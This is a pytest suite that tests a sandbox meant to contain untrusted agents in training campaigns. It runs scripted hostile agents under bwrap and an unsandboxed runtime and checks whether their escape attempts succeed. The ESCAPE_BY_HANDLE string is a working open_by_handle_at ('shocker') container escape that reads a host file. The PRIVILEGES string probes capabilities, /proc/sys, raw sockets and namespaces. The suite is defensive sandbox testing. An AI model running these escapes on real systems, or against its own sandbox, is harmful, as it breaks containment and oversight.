"""The sandbox's walls, tried by hostile agents in real campaign runs (`ptb-harness run`, the
real Snakemake), under `bwrap` and under `none`. CI runs as root, so "the harness runs as
root" is the case measured; the README's threat model table is these results.

Each agent is one attempt, all as cells of ONE campaign per runtime. Under `bwrap` each
fails and its cell is scored honestly on the model it left; under `none` (trusted agents
only) most succeed, and the tests assert what really happens there, so the README says it.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
from pathlib import Path

import pytest
from conftest import campaign_config, make_workdir, write_agent, write_config, write_task
from conftest import cell_dir as _cell_dir
from hostile import harness_run, ptb, write_profile

pytestmark = pytest.mark.slow

HOURS = "0.002"
HOST_FILE = "host-only-9d41c7e2b8"  # in a host file the escape tries to read
ROOT = os.geteuid() == 0
#: the scorer of task `fake`: the score the agent's model names, nothing more
SCORER = """
    import argparse, json, pathlib
    ap = argparse.ArgumentParser()
    ap.add_argument("--model-path"); ap.add_argument("--json-output-file"); ap.add_argument("--max-tokens", type=int)
    a = ap.parse_args()
    cfg = json.loads(pathlib.Path(a.model_path, "config.json").read_text())
    pathlib.Path(a.json_output_file).write_text(json.dumps({"accuracy": cfg.get("score", 0.5)}))
"""
ONE_ATTEMPT = {"evaluate": {"ladder": [{"attempts": 1, "max_tokens": None}]}}
MODEL = "mkdir -p final_model && echo '{\"score\": %s}' > final_model/config.json\n"
W = 'export W=$(dirname "$(dirname "$MODEL_TO_TRAIN")")\n'  # the campaign dir, from the model's path

#: open_by_handle_at: a hand-made handle for the filesystem's root inode (ext4: inode 2,
#: FILEID_INO32_GEN), relative to an fd of the bound job dir ("shocker"); with
#: CAP_DAC_READ_SEARCH it gives the fs root, read-write. Then the harness's host file.
ESCAPE_BY_HANDLE = r"""
python - <<'PY'
import ctypes, errno, hashlib, os, struct
libc = ctypes.CDLL(None, use_errno=True)
home = os.open(os.environ["HOME"], os.O_RDONLY | os.O_DIRECTORY)
def handle_open(handle):
    fd = libc.open_by_handle_at(home, ctypes.create_string_buffer(handle), os.O_RDONLY | os.O_DIRECTORY)
    return fd, errno.errorcode.get(ctypes.get_errno(), "?")
# the job dir's own handle (name_to_handle_at needs no privilege) ...
own = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
mount_id = ctypes.c_int()
libc.name_to_handle_at(home, b"", own, ctypes.byref(mount_id), 0x1000)  # AT_EMPTY_PATH
size = struct.unpack_from("=I", own, 0)[0]
fd, why = handle_open(own.raw[: 8 + size])
print("OWN_HANDLE", "OPENED" if fd >= 0 else why)
# ... and the hand-made one of the filesystem's root
fd, why = handle_open(struct.pack("=IiII", 8, 1, 2, 0))
if fd < 0:
    print("ROOT_HANDLE", why)
else:
    print("ROOT_HANDLE OPENED")
    try:
        f = os.open(os.environ["W"].lstrip("/") + "/host_file.txt", os.O_RDONLY, dir_fd=fd)
        print("ESCAPED", hashlib.sha256(os.read(f, 1000)).hexdigest())
    except OSError as e:
        print("ESCAPE_READ", e)
PY
"""

#: what a process holds: capabilities, host name, /proc/sys, raw sockets, nested user
#: namespaces, setuid mounts
PRIVILEGES = r"""
grep -E '^(CapEff|CapBnd|NoNewPrivs):' /proc/self/status
python - <<'PY'
import errno, os, socket
print("HOSTNAME", socket.gethostname())
try:
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))  # opened and closed: nothing written
    print("PROC_SYS WRITABLE")
except OSError as e:
    print("PROC_SYS", errno.errorcode[e.errno])
for name, family, kind, proto in (("RAW_SOCKET", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                  ("PACKET_SOCKET", socket.AF_PACKET, socket.SOCK_RAW, 0)):
    try:
        socket.socket(family, kind, proto).close()
        print(name, "OPENED")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
with open("/proc/self/mountinfo") as f:
    for line in f:
        fields = line.split()
        if "nosuid" not in fields[5].split(","):
            print("SUID_MOUNT", fields[4])
PY
unshare --user true 2>/dev/null && echo "NESTED_USERNS allowed" || echo "NESTED_USERNS refused"
"""

ATTEMPTS = {
    "escape_by_handle": W + ESCAPE_BY_HANDLE + MODEL % "0.35",
    "privileges": PRIVILEGES + MODEL % "0.45",
}


def cell_dir(workdir: Path, agent: str) -> Path:
    return _cell_dir(workdir, agent, hours=HOURS)


def trace(workdir: Path, agent: str) -> str:
    return (cell_dir(workdir, agent) / "solve_out.txt").read_text()


def said(workdir: Path, agent: str, key: str) -> list[str]:
    """What the agent printed after ``key`` (every line that starts with it)."""
    out = []
    for line in trace(workdir, agent).splitlines():
        text = line.split("] ", 1)[-1]  # after the harness's timestamp
        if text.startswith(key + " ") or text.startswith(key + ":"):
            out.append(text[len(key) + 1 :].strip())
    return out


@pytest.fixture(scope="module", params=["bwrap", "none"])
def walls(request, tmp_path_factory):
    runtime = request.param
    root = tmp_path_factory.mktemp(f"walls-{runtime}")
    workdir = make_workdir(root / "campaign")
    write_task(workdir, "fake", SCORER, ONE_ATTEMPT)
    for name, body in ATTEMPTS.items():
        write_agent(workdir, name, body)
    (workdir / "host_file.txt").write_text(HOST_FILE)
    write_config(workdir, campaign_config(agents=list(ATTEMPTS), hours=[float(HOURS)]))
    profile = write_profile(root, runtime=runtime, solve_resources={"cpus": 1}, evaluate_resources={"cpus": 1})
    run = harness_run(workdir, profile)
    assert "Traceback" not in run.stderr.replace("Traceback (most recent call last)", ""), run.stderr[-3000:]
    data = json.loads(ptb(workdir, profile, "status", "--json"))
    outcomes = {c["agent"]: (c["outcome"], c["evidence"]) for c in data["cells"]}
    return runtime, workdir, outcomes


def test_every_attempt_is_scored_honestly_on_its_model(walls):
    _runtime, _workdir, outcomes = walls
    assert outcomes["escape_by_handle"] == ("scored", "accuracy 0.35"), outcomes
    assert outcomes["privileges"] == ("scored", "accuracy 0.45"), outcomes


def test_open_by_handle_at_escape(walls):
    runtime, workdir, _ = walls
    own, root = said(workdir, "escape_by_handle", "OWN_HANDLE"), said(workdir, "escape_by_handle", "ROOT_HANDLE")
    escaped = said(workdir, "escape_by_handle", "ESCAPED")
    if runtime == "bwrap" or not ROOT:
        # no CAP_DAC_READ_SEARCH in any namespace: any handle, even its own dir's, is refused
        assert own == ["EPERM"] and root == ["EPERM"] and escaped == []
    else:
        # runtime none as root: the agent is root; the hand-made handle opens the fs root
        assert own == ["OPENED"] and root == ["OPENED"]
        assert escaped in ([], [hashlib.sha256(HOST_FILE.encode()).hexdigest()])


def test_no_capability_no_proc_sys_no_raw_socket(walls):
    runtime, workdir, _ = walls

    def one(key):
        values = said(workdir, "privileges", key)
        assert len(values) == 1, (key, trace(workdir, "privileges")[-3000:])
        return values[0]

    if runtime == "bwrap":
        assert int(one("CapEff"), 16) == 0 and int(one("CapBnd"), 16) == 0 and one("NoNewPrivs") == "1"
        assert one("HOSTNAME") == "ptb-sandbox" != socket.gethostname()
        assert one("PROC_SYS") == "EROFS"
        assert one("RAW_SOCKET") == "EPERM" and one("PACKET_SOCKET") == "EPERM"
        assert one("NESTED_USERNS") == "refused"
        assert said(workdir, "privileges", "SUID_MOUNT") == []
    else:
        # what runtime none really gives an agent: the harness's own privileges and host
        assert (int(one("CapEff"), 16) != 0) == ROOT and one("NoNewPrivs") == "0"
        assert one("HOSTNAME") == socket.gethostname()
        assert (one("PROC_SYS") == "WRITABLE") == ROOT
        assert (one("RAW_SOCKET") == "OPENED") == ROOT
